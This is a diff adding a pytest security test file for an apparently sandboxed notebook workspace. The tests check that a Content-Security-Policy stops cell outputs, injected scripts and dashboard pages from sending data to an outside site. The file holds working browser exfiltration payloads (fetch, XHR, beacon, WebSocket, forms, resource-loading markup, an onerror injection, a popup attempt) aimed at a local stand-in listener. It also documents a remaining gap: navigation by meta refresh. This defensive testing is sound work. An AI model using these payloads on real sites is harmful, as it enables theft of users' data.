@@ -1,0 +1,416 @@
+"""Attacks from the browser: a workspace's outputs and pages try to send rows to another website.
+
+Threat model line: "data leaves only through export requests". The user's browser is
+outside the sandbox and can reach the internet, so the workspace server's answers carry a
+Content-Security-Policy (hub/singleuser/csp.py). Here Debian's chromium, logged in as bob
+through the hub's form, opens his real (sandboxed) workspace. A listener on the host
+(127.0.0.1, its own port) stands for "a website elsewhere" and records every request.
+
+The same payloads are first run from a page of a third local origin without the policy:
+the listener receives every one of them, so what stops them in the workspace is the policy,
+not this browser or this machine. Then they are tried from the lab's cell outputs, by a
+script evaluated in the lab page (one that got past script-src), and by a page a server
+of bob's own answers on a Dask dashboard path. The lab must keep working: a cell runs,
+its output shows, the notebook saves, the dashboard draws.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from hub.policy.server import free_port
+from hub.singleuser.csp import DASHBOARD_POLICY, WORKSPACE_POLICY
+from tests.fixtures.hub import PASSWORDS
+
+pytestmark = pytest.mark.slow
+
+MARKER = "ROW-MARKER-c5e1"
+OWN_PORT = 8767  # bob's own web server in the workspace, answering dashboard paths
+
+# Every way a page can send something to another site, each tagged so the listener tells
+# them apart. {listener} is the listener's origin, {tag} a name for this run.
+PAYLOAD = """
+(() => {{
+  const L = "{listener}", T = "{tag}", rows = "holder_id={marker}";
+  fetch(L + "/fetch?" + T, {{method: "POST", body: rows, mode: "no-cors"}}).catch(() => {{}});
+  try {{ const x = new XMLHttpRequest(); x.open("POST", L + "/xhr?" + T); x.send(rows); }} catch (e) {{}}
+  const img = new Image(); img.src = L + "/img?" + T + "&" + rows; document.body.appendChild(img);
+  try {{ navigator.sendBeacon(L + "/beacon?" + T, rows); }} catch (e) {{}}
+  try {{ new WebSocket(L.replace("http:", "ws:") + "/ws?" + T); }} catch (e) {{}}
+  try {{ new EventSource(L + "/sse?" + T); }} catch (e) {{}}
+  const frame = document.createElement("iframe"); frame.src = L + "/iframe?" + T; document.body.appendChild(frame);
+  const sink = document.createElement("iframe"); sink.name = "sink-" + T; document.body.appendChild(sink);
+  const form = document.createElement("form");
+  form.method = "POST"; form.action = L + "/form?" + T; form.target = sink.name;
+  const field = document.createElement("input"); field.name = "rows"; field.value = rows; form.appendChild(field);
+  document.body.appendChild(form); form.submit();
+}})();
+"""
+# Channels the payload tries; each must reach the listener from the page without policy.
+CHANNELS = ("fetch", "xhr", "img", "beacon", "ws", "sse", "iframe", "form")
+
+# Markup that loads from elsewhere without any script.
+MARKUP = """
+<img src="{listener}/html-img?{tag}">
+<iframe src="{listener}/html-iframe?{tag}"></iframe>
+<link rel="stylesheet" href="{listener}/html-css?{tag}">
+<link rel="prefetch" href="{listener}/html-prefetch?{tag}">
+<style>@font-face {{ font-family: x; src: url({listener}/html-font?{tag}); }} .x-{tag} {{ font-family: x; background: url({listener}/html-bg?{tag}); }}</style>
+<div class="x-{tag}">{marker}</div>
+<video src="{listener}/html-video?{tag}" autoplay muted></video>
+<object data="{listener}/html-object?{tag}"></object>
+<embed src="{listener}/html-embed?{tag}">
+"""
+MARKUP_CHANNELS = ("html-img", "html-iframe", "html-css", "html-prefetch", "html-font", "html-bg", "html-video", "html-object", "html-embed")
+
+# Records the page's policy violations (runs in every frame before the page's own scripts).
+VIOLATIONS = """
+window.__violations = [];
+document.addEventListener("securitypolicyviolation", (e) => {
+  window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI});
+});
+"""
+
+
+class Listener:
+    """A website elsewhere: records every request it receives (path, method), answers 200."""
+
+    def __init__(self):
+        self.requests: list[tuple[str, str]] = []
+        listener = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                length = int(self.headers.get("Content-Length") or 0)
+                if length:
+                    self.rfile.read(length)
+                listener.requests.append((self.command, self.path))
+                body = listener.page.encode() if self.path.startswith("/control") else b"ok"
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html" if self.path.startswith("/control") else "text/plain")
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_POST = do_PUT = do_OPTIONS = do_GET
+
+            def log_message(self, *args):
+                pass
+
+        self.page = ""
+        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def received(self, tag: str) -> set[str]:
+        """The channels (first path segment) by which requests tagged `tag` arrived."""
+        return {path.split("?")[0].strip("/") for _, path in self.requests if tag in path}
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def payload(listener: Listener, tag: str) -> str:
+    return PAYLOAD.format(listener=listener.url, tag=tag, marker=MARKER)
+
+
+def markup(listener: Listener, tag: str) -> str:
+    return MARKUP.format(listener=listener.url, tag=tag, marker=MARKER)
+
+
+def settle(seconds: float = 3.0) -> None:
+    """Give the browser time to send whatever it was going to send."""
+    time.sleep(seconds)
+
+
+def own_server(listener: Listener, tag: str) -> str:
+    """bob's web server: every path is an HTML page running PAYLOAD, with a policy of its own."""
+    page = f"<html><body><pre>{MARKER}</pre><script>{payload(listener, tag)}</script></body></html>"
+    return f'''
+import sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+PAGE = {page!r}.encode()
+
+class Handler(BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Security-Policy", "default-src * 'unsafe-inline'")
+        self.send_header("Content-Length", str(len(PAGE)))
+        self.end_headers()
+        self.wfile.write(PAGE)
+
+    def log_message(self, *args):
+        pass
+
+ThreadingHTTPServer(("127.0.0.1", {OWN_PORT}), Handler).serve_forever()
+'''
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[Listener]:
+    running = Listener()
+    yield running
+    running.close()
+
+
+@pytest.fixture(scope="module")
+def bob(campus_hub, listener):
+    """bob's running workspace with a Dask dashboard and his own server on a dashboard path."""
+    session = campus_hub.session("bob")
+    assert session.spawn().status_code < 400
+    kernel = session.kernel()
+    setup = f"""
+import socket, subprocess, sys, time
+import campus
+client = campus.cluster(n_workers=1)
+open("/home/bob/own_server.py", "w").write({own_server(listener, "own-page")!r})
+subprocess.Popen([sys.executable, "/home/bob/own_server.py"], stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL, cwd="/home/bob", start_new_session=True)
+for _ in range(100):
+    try:
+        socket.create_connection(("127.0.0.1", {OWN_PORT}), timeout=1).close()
+        break
+    except OSError:
+        time.sleep(0.1)
+print("LINK", client.dashboard_link)
+"""
+    out, error = kernel.run(setup, timeout=180)
+    assert error is None, error
+    session.dashboard_link = re.search(r"LINK (\S+)", out).group(1)
+    yield session
+    kernel.close()
+    session.stop()
+
+
+@pytest.fixture(scope="module")
+def context(browser, campus_hub, bob):
+    """A browser context logged in as bob through the hub's login form."""
+    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
+    ctx.set_default_timeout(60_000)  # two shared cores: the lab can be slow to start
+    ctx.add_init_script(VIOLATIONS)
+    page = ctx.new_page()
+    page.goto(f"{campus_hub.url}/hub/login?next=/hub/home")
+    page.fill("input[name=username]", "bob")
+    page.fill("input[name=password]", PASSWORDS["bob"])
+    page.click("#login_submit, input[type=submit], button[type=submit]")
+    page.wait_for_load_state()
+    assert "/hub/login" not in page.url, "login of bob failed"
+    page.close()
+    yield ctx
+    ctx.close()
+
+
+def violations(page) -> list[dict]:
+    return page.evaluate("window.__violations")
+
+
+def new_notebook(bob, name: str, sources: list[str]) -> None:
+    """Write notebook `name` in bob's home through the contents API."""
+    cells = [{"cell_type": "code", "source": s, "metadata": {}, "outputs": [], "execution_count": None} for s in sources]
+    content = {
+        "cells": cells,
+        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3 (campus)", "language": "python"}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    response = bob.server("PUT", f"api/contents/{name}", json={"type": "notebook", "format": "json", "content": content})
+    assert response.status_code in (200, 201), response.text
+
+
+def open_lab(context, campus_hub, name: str):
+    """bob's lab with notebook `name` open and its kernel idle; the page's violations cleared."""
+    page = context.new_page()
+    page.goto(f"{campus_hub.url}/user/bob/lab/tree/{name}")
+    page.wait_for_selector(".jp-Notebook .jp-Cell .cm-content")
+    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=120_000)
+    # The lab's own inline script (it strips ?token= from the URL) is refused at load: harmless.
+    page.evaluate("window.__violations.length = 0")
+    return page
+
+
+def run_all(page, last_output: str):
+    """Run every cell from the Run menu; wait for `last_output` in the last cell."""
+    page.click(".jp-Notebook .jp-Cell .cm-content")
+    page.get_by_role("menuitem", name="Run", exact=True).click()
+    page.get_by_role("menuitem", name=re.compile(r"^Run All Cells")).click()
+    page.locator(".jp-OutputArea-output", has_text=last_output).wait_for(timeout=120_000)
+
+
+# --- the control: the same payloads from a page without the policy --------------------
+
+
+def test_control_payloads_reach_the_listener_without_the_policy(context, listener):
+    """A page of another local origin, no policy: every channel reaches the listener."""
+    tag = "control-" + uuid.uuid4().hex[:6]
+    listener.page = f"<html><body><script>{payload(listener, tag)}</script>{markup(listener, tag)}</body></html>"
+    control = ThreadingHTTPServer(("127.0.0.1", free_port()), type("H", (BaseHTTPRequestHandler,), {
+        "do_GET": lambda self: (self.send_response(200), self.send_header("Content-Type", "text/html"), self.end_headers(),
+                                self.wfile.write(listener.page.encode())),
+        "log_message": lambda self, *args: None,
+    }))
+    threading.Thread(target=control.serve_forever, daemon=True).start()
+    page = context.new_page()
+    try:
+        page.goto(f"http://127.0.0.1:{control.server_address[1]}/")
+        settle()
+        received = listener.received(tag)
+    finally:
+        page.close()
+        control.shutdown()
+        control.server_close()
+    missing = set(CHANNELS) - received
+    assert not missing, f"payloads that never reached the listener even without a policy: {missing}"
+    assert {"html-img", "html-iframe", "html-css", "html-bg"} <= received
+
+
+# --- the header is on every answer ---------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["lab", "lab/tree/x.ipynb", "api/status", "api/contents", "api/kernels", "files/nothing.csv"])
+def test_workspace_answers_carry_the_policy(bob, path):
+    response = bob.server("GET", path)
+    assert response.headers["Content-Security-Policy"].startswith(WORKSPACE_POLICY)
+
+
+def test_dashboard_answers_carry_the_campus_policy_not_the_upstreams(bob):
+    for path in (bob.dashboard_link, f"/user/bob/proxy/{OWN_PORT}/status", f"/user/bob/proxy/{OWN_PORT}/data.csv"):
+        response = bob.api("GET", path)
+        assert response.headers.get_list("Content-Security-Policy") == [DASHBOARD_POLICY], path
+    own = bob.api("GET", f"/user/bob/proxy/{OWN_PORT}/status")
+    assert own.status_code == 200 and MARKER in own.text  # a page of bob's own still shows…
+    assert "default-src *" not in str(own.headers)  # …under the campus policy, not its own
+
+
+# --- the lab under the policy ----------------------------------------------------------
+
+
+def test_lab_runs_a_cell_and_saves_under_the_policy(context, campus_hub, bob):
+    new_notebook(bob, "works.ipynb", ["print(6 * 7)"])
+    page = open_lab(context, campus_hub, "works.ipynb")
+    run_all(page, "42")
+    page.keyboard.press("Control+s")
+    deadline = time.monotonic() + 30
+    outputs = []
+    while time.monotonic() < deadline and not outputs:
+        saved = bob.server("GET", "api/contents/works.ipynb").json()
+        outputs = saved["content"]["cells"][0]["outputs"]
+        time.sleep(0.5)
+    assert outputs and outputs[0]["text"] == "42\n"
+    assert violations(page) == []
+    page.close()
+
+
+def test_dashboard_draws_under_the_policy(context, campus_hub, bob):
+    page = context.new_page()
+    errors = []
+    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
+    page.goto(campus_hub.url + bob.dashboard_link)
+    page.locator("canvas").first.wait_for(timeout=30_000)  # drawn from data sent over …/ws
+    settle(2)
+    assert violations(page) == []
+    assert not [e for e in errors if "websocket" in e.lower() or "Content Security Policy" in e]
+    page.close()
+
+
+# --- the attacks -----------------------------------------------------------------------
+
+
+def test_cell_outputs_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
+    """HTML with scripts, a Javascript output, and script-free markup, in live (trusted) outputs."""
+    tag = "cells-" + uuid.uuid4().hex[:6]
+    script = payload(listener, tag)
+    new_notebook(bob, "attack.ipynb", [
+        f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({f'<script>{script}</script>'!r}))",
+        f"display(HTML({f'<img src=x onerror={json.dumps(script)}>'!r}))",
+        f"display(Javascript({script!r}))",
+        f"display(HTML({markup(listener, tag)!r}))",
+        "print('DONE-' + 'cells')",
+    ])
+    page = open_lab(context, campus_hub, "attack.ipynb")
+    run_all(page, "DONE-cells")
+    settle()
+    assert listener.received(tag) == set()
+    seen = violations(page)
+    directives = {v["directive"] for v in seen}
+    # the <script> and the onerror= handler never ran…
+    assert {"script-src-elem", "script-src-attr"} <= directives, seen
+    # …and the markup was refused by the directive that governs each load (Chrome names
+    # only the origin for frames and objects)
+    refused = {v["directive"] for v in seen if v["blocked"].startswith(listener.url)}
+    assert refused == {"img-src", "frame-src", "style-src-elem", "font-src", "media-src", "object-src", "default-src"}
+    # The Javascript output is not evaluated: the lab's Javascript renderer is disabled.
+    assert page.locator(".jp-OutputArea-output", has_text="JavaScript output is disabled").count() == 1
+    page.close()
+
+
+def test_a_script_that_runs_in_the_lab_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
+    """Second line: a script that got past script-src (here evaluated by the test) in the lab page."""
+    tag = "lab-script-" + uuid.uuid4().hex[:6]
+    page = open_lab(context, campus_hub, "works.ipynb")
+    page.evaluate(payload(listener, tag))
+    settle()
+    assert listener.received(tag) == set()
+    directives = {v["directive"] for v in violations(page) if listener.url.replace("http", "") in v["blocked"]}
+    assert {"connect-src", "img-src", "frame-src", "form-action"} <= directives
+    page.close()
+
+
+def test_a_page_of_bobs_own_on_a_dashboard_path_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
+    """bob's server answers /status with a page whose script runs (Bokeh's pages need inline scripts)."""
+    page = context.new_page()
+    page.goto(f"{campus_hub.url}/user/bob/proxy/{OWN_PORT}/status")
+    page.get_by_text(MARKER).wait_for()
+    settle()
+    assert listener.received("own-page") == set()
+    directives = {v["directive"] for v in violations(page) if listener.url.replace("http", "") in v["blocked"]}
+    # the form never gets as far as form-action: the page's sandbox allows no forms
+    assert {"connect-src", "img-src", "frame-src"} <= directives
+    page.close()
+
+
+def test_a_page_on_a_dashboard_path_cannot_open_a_window(context, campus_hub, bob, listener):
+    """A window it opened on the hub's pages (same origin, the hub's own policy) could send;
+    the dashboard policy's sandbox gives it none."""
+    page = context.new_page()
+    page.goto(f"{campus_hub.url}/user/bob/proxy/{OWN_PORT}/status")
+    page.get_by_text(MARKER).wait_for()
+    opened = page.evaluate("""(L) => {
+      const w = window.open("/hub/home");
+      if (w) setTimeout(() => w.fetch(L + "/popup?window", {method: "POST", body: "rows", mode: "no-cors"}), 2000);
+      return w !== null;
+    }""", listener.url)
+    settle()
+    assert opened is False
+    assert listener.received("window") == set()
+    page.close()
+
+
+# --- what remains (docs/sandbox.md) ------------------------------------------------------
+
+
+def test_what_remains_an_output_can_navigate_the_tab_elsewhere(context, campus_hub, bob, listener):
+    """No policy directive governs navigation: a refresh in an HTML output takes the tab, with
+    what fits in a URL, to another site. Stated in docs/sandbox.md; kept here so it stays known."""
+    tag = "navigate-" + uuid.uuid4().hex[:6]
+    new_notebook(bob, "navigate.ipynb", [
+        "from IPython.display import HTML\n"
+        f"HTML('<meta http-equiv=\"refresh\" content=\"0;url={listener.url}/meta?{tag}&{MARKER}\">')",
+    ])
+    page = open_lab(context, campus_hub, "navigate.ipynb")
+    page.click(".jp-Notebook .jp-Cell .cm-content")
+    page.keyboard.press("Shift+Enter")
+    page.wait_for_url(f"{listener.url}/**")
+    assert listener.received(tag) == {"meta"}
+    page.close()
+
